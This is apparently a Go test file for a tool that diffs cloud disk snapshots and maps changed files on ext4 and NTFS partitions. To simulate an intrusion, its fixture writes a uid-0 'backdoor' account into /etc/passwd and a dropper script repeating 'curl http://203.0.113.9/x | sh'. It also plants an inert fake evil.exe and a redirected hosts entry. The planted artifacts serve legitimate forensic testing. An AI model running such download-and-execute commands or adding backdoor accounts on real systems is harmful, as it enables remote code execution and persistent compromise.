package diff_test

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ebsimager/ebsimager/internal/block"
	"github.com/ebsimager/ebsimager/internal/diff"
	"github.com/ebsimager/ebsimager/internal/ebs"
	"github.com/ebsimager/ebsimager/internal/emulator"
	"github.com/ebsimager/ebsimager/internal/emulator/emulatortest"
	"github.com/ebsimager/ebsimager/internal/sampledisk"
	"github.com/ebsimager/ebsimager/internal/testenv"
	"github.com/ebsimager/ebsimager/internal/volume"
)

// The sample disk's partitions (make-sample-disk.sh): 64 MiB each, from
// sectors 2048 and 133120.
const (
	extOffset  = 2048 * 512
	ntfsOffset = (2048 + 131072) * 512
	partLength = 131072 * 512
	baseID     = "snap-0ba5e000000000001"
	newID      = "snap-0e1d0000000000002"
)

func runTool(t *testing.T, name string, args ...string) {
	t.Helper()
	out, err := exec.Command(testenv.RequireTool(t, name)[0], args...).CombinedOutput()
	if err != nil {
		t.Fatalf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
	}
}

// editPartition copies a partition out of disk, lets edit change it with
// the file-system tools, and writes it back.
func editPartition(t *testing.T, disk string, off, n int64, edit func(img string)) {
	t.Helper()
	f, err := os.OpenFile(disk, os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	buf := make([]byte, n)
	if _, err := f.ReadAt(buf, off); err != nil {
		t.Fatal(err)
	}
	img := filepath.Join(t.TempDir(), "part.img")
	if err := os.WriteFile(img, buf, 0o600); err != nil {
		t.Fatal(err)
	}
	edit(img)
	if buf, err = os.ReadFile(img); err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteAt(buf, off); err != nil {
		t.Fatal(err)
	}
}

func write(t *testing.T, dir, name string, data []byte) string {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.WriteFile(p, data, 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

// changedDisks returns the sample disk and a copy in which the test has
// changed known files: on ext4, /etc/passwd rewritten, notes.txt
// deleted, /tmp/dropper.sh added in a new directory, payload.bin's
// mtime set; on NTFS, hosts.txt (resident) and Security.log (in place)
// rewritten and evil.exe added.
func changedDisks(t *testing.T) (base, next string) {
	t.Helper()
	testenv.RequireTool(t, "debugfs", "ntfscp", "cp")
	dir := t.TempDir()
	base, err := sampledisk.Extract(dir)
	if err != nil {
		t.Fatal(err)
	}
	next = filepath.Join(dir, "new.raw")
	runTool(t, "cp", "--sparse=always", base, next)
	work := t.TempDir()
	editPartition(t, next, extOffset, partLength, func(img string) {
		passwd := write(t, work, "passwd", []byte("root:x:0:0:root:/root:/bin/bash\nbackdoor:x:0:0::/:/bin/sh\n"))
		dropper := write(t, work, "dropper.sh", bytes.Repeat([]byte("curl http://203.0.113.9/x | sh\n"), 300))
		cmds := write(t, work, "cmds", []byte(strings.Join([]string{
			"rm /etc/passwd",
			"write " + passwd + " /etc/passwd",
			"rm /home/analyst/notes.txt",
			"mkdir /tmp",
			"write " + dropper + " /tmp/dropper.sh",
			"set_inode_field /usr/local/bin/payload.bin mtime 20240301000000",
		}, "\n")+"\n"))
		runTool(t, "debugfs", "-w", "-f", cmds, img)
	})
	editPartition(t, next, ntfsOffset, partLength, func(img string) {
		hosts := write(t, work, "hosts.txt", []byte("127.0.0.1 localhost\n203.0.113.9 update.example.invalid\n"))
		runTool(t, "ntfscp", img, hosts, "hosts.txt")
		evil := write(t, work, "evil.exe", bytes.Repeat([]byte("MZ\x90\x00evil"), 20000))
		runTool(t, "ntfscp", img, evil, "evil.exe")
		cat := exec.Command(testenv.RequireTool(t, "ntfscat")[0], img, "Security.log")
		log, err := cat.Output()
		if err != nil {
			t.Fatalf("ntfscat: %v", err)
		}
		// One line edited in place: same length, same clusters.
		log = bytes.Replace(log, []byte("Account: admin7 Source: 198.51.100.107"), []byte("Account: admin7 Source: 198.51.100.999"), 1)
		runTool(t, "ntfscp", img, write(t, work, "Security.log", log), "Security.log")
	})
	return base, next
}

// apiDiff lists the changes through the emulator and returns the diff
// with a Fetch of the new snapshot's blocks.
func apiDiff(t *testing.T, base, next string) (*diff.Diff, volume.Fetch, *emulator.Server) {
	t.Helper()
	srv, ep := emulatortest.Start(t, emulator.Options{TrackBlocks: true})
	if err := srv.AddRawImage(baseID, base, emulator.RawOptions{}); err != nil {
		t.Fatal(err)
	}
	if err := srv.AddRawImage(newID, next, emulator.RawOptions{Parent: baseID}); err != nil {
		t.Fatal(err)
	}
	snap := &ebs.Snapshot{API: emulatortest.Client(t, ep), ID: newID, Policy: ebs.Policy{Sleep: func(ctx context.Context, _ time.Duration) error { return ctx.Err() }}}
	b := diff.NewBuilder(baseID, newID)
	tokens := map[int64]string{}
	err := snap.Changes(context.Background(), baseID, 0, func(p ebs.ChangePage) error {
		b.SetVolume(p.VolumeGiB)
		for _, c := range p.Changes {
			if err := b.Add(diff.Change{Index: c.Index, InBase: c.FirstToken != "", InNew: c.SecondToken != ""}); err != nil {
				return err
			}
			tokens[c.Index] = c.SecondToken
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	fetch := func(ctx context.Context, index int64, buf []byte) ([]byte, error) {
		blk, err := snap.Fetch(ctx, block.Ref{Index: index, Token: tokens[index]}, buf)
		return blk.Data, err
	}
	return b.Diff(), fetch, srv
}

// fileWant is what a file's change must be; data and metadata are "yes",
// "no", or "any" where the tools' own behaviour decides (a deleted
// file's freed block reused by a new one; ntfs-3g rewriting a file in
// place without touching its record).
type fileWant struct {
	status         string
	data, metadata string
}

func yesNo(b bool) string {
	if b {
		return "yes"
	}
	return "no"
}

func TestMapFilesOnRealDisks(t *testing.T) {
	base, next := changedDisks(t)
	d, fetch, srv := apiDiff(t, base, next)
	if d.Totals.Blocks == 0 || d.VolumeGiB != sampledisk.VolumeGiB {
		t.Fatalf("diff %+v", d.Totals)
	}
	src, err := volume.Open(context.Background(), base, volume.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	srv.ResetCounters()
	over := volume.NewOverlay(context.Background(), src, d.Snapshot, d.Size(), d.Patches(), fetch)
	if err := d.MapFiles(context.Background(), src, over, nil); err != nil {
		t.Fatal(err)
	}
	if gets := srv.Counters().Count("GetSnapshotBlock", emulator.OutcomeOK); gets != over.Fetched() || gets == 0 || gets > d.Totals.Added+d.Totals.Changed {
		t.Fatalf("%d blocks fetched (overlay counts %d) of %d changed", gets, over.Fetched(), d.Totals.Blocks)
	}

	got := map[string]diff.FileChange{}
	for _, f := range d.Files {
		got[f.Path] = f
	}
	for path, w := range map[string]fileWant{
		"/etc/passwd":                {diff.FileChanged, "yes", "yes"},
		"/home/analyst/notes.txt":    {diff.FileDeleted, "any", "yes"},
		"/tmp":                       {diff.FileAdded, "no", "yes"},
		"/tmp/dropper.sh":            {diff.FileAdded, "yes", "yes"},
		"/usr/local/bin/payload.bin": {diff.FileChanged, "no", "yes"},
		"/home/analyst":              {diff.FileChanged, "no", "yes"},
		"/":                          {diff.FileChanged, "no", "yes"},
		"/hosts.txt":                 {diff.FileChanged, "yes", "any"},
		"/evil.exe":                  {diff.FileAdded, "yes", "yes"},
		"/Security.log":              {diff.FileChanged, "yes", "any"},
	} {
		f, ok := got[path]
		if !ok {
			t.Errorf("%s: not named", path)
			continue
		}
		if f.Status != w.status || (w.data != "any" && yesNo(f.Data) != w.data) || (w.metadata != "any" && yesNo(f.Metadata) != w.metadata) {
			t.Errorf("%s: %s data=%v metadata=%v, want %s data=%s metadata=%s", path, f.Status, f.Data, f.Metadata, w.status, w.data, w.metadata)
		}
	}
	// Files nobody touched are not named, though they share changed
	// blocks (inode tables, MFT blocks) with files that changed.
	for _, path := range []string{"/README.txt", "/etc/hostname", "/var/log/auth.log", "/tool.bin", "/usr/local/bin", "/var/log", "/lost+found"} {
		if f, ok := got[path]; ok {
			t.Errorf("untouched %s named: %+v", path, f)
		}
	}
	for _, name := range []string{"ext4:inode bitmap", "ext4:block bitmap", "$MFT", "$Bitmap"} {
		if f, ok := got[name]; !ok || f.Kind != "structure" || f.Status != diff.FileChanged {
			t.Errorf("structure %s: %+v (present %v)", name, f, ok)
		}
	}
	if f := got["/hosts.txt"]; f.Partition != 2 || f.FileSystem != "ntfs" || f.BaseID == nil || f.NewID == nil || *f.BaseID != *f.NewID {
		t.Errorf("/hosts.txt: %+v", f)
	}
	if f := got["/tmp/dropper.sh"]; f.Partition != 1 || f.FileSystem != "ext4" || f.BaseID != nil || f.NewID == nil || f.DataBytes == 0 {
		t.Errorf("/tmp/dropper.sh: %+v", f)
	}
	for _, p := range d.Partitions {
		if !p.Mapped || len(p.Warnings) != 0 {
			t.Errorf("partition %d: mapped %v, warnings %v", p.Number, p.Mapped, p.Warnings)
		}
	}
	if testing.Verbose() {
		diff.WriteText(os.Stdout, d)
	}

	// The same mapping from a second image of the new snapshot instead
	// of the API names the same files.
	nsrc, err := volume.Open(context.Background(), next, volume.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer nsrc.Close()
	again := *d
	again.Files, again.Partitions = nil, nil
	if err := again.MapFiles(context.Background(), src, nsrc, nil); err != nil {
		t.Fatal(err)
	}
	var a, b bytes.Buffer
	diff.WriteJSON(&a, d)
	diff.WriteJSON(&b, &again)
	if a.String() != b.String() {
		t.Fatal("mapping with the new image differs from mapping through the API")
	}
}
